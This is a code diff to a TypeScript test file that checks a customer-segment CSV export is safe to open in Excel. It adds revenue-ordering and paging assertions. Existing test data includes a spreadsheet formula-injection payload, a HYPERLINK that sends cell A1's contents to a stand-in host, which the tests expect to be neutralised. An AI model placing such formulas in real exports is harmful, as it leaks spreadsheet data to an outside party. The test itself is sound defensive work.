@@ -7,6 +7,9 @@ import { describe, expect, it } from "vitest";
 import type { Db } from "@/db/client";
 import { normalisePhone } from "@/lib/ingest/normalise/phone";
 import { exportSegment } from "@/lib/segments/export/export-segment";
+import { allSegmentRows } from "@/lib/segments/query/read-rows";
+import { segmentFilter } from "@/lib/segments/query/segment-filter";
+import { findSegment } from "@/lib/segments/store/find-segment";
 import { tempDatabase } from "@/lib/testing/temp-db";
 
 import { csvLine, neutralise } from "../csv";
@@ -98,6 +101,9 @@ describe("export: CSV safe to open in Excel (case 16)", () => {
         .map(([, name, email, phone, note, revenue]) => [email, { name, phone, note, revenue }]),
     );
     expect(rows.length - 1).toBe(5);
+    // Highest spend first, as the segment's preview lists them.
+    expect(rows.slice(1).map((row) => row[5]))
+      .toEqual(["300.00", "250.00", "220.00", "200.00", "180.00"]);
     expect(byEmail["sunny.w@example.cn"]).toEqual({
       name: `'=HYPERLINK("http://prize.example/?d="&A1,"Claim prize")`,
       phone: "'+8613500135000",
@@ -130,6 +136,13 @@ describe("export: CSV safe to open in Excel (case 16)", () => {
     });
     // The quotes inside HYPERLINK are doubled in the file itself.
     expect(text).toContain(`"'=HYPERLINK(""http://prize.example/?d=""&A1,""Claim prize"")"`);
+  });
+
+  it("reads page after page in that order, however small the page", () => {
+    const { db, segmentId } = caseDatabase();
+    const { where } = segmentFilter(db, findSegment(db, segmentId).rule);
+    const rows = [...allSegmentRows(db, { where, fields: ["revenue"], page: 2 })];
+    expect(rows.map((row) => row.values[0])).toEqual([30_000, 25_000, 22_000, 20_000, 18_000]);
   });
 
   it("leaves the database's text as it was", async () => {
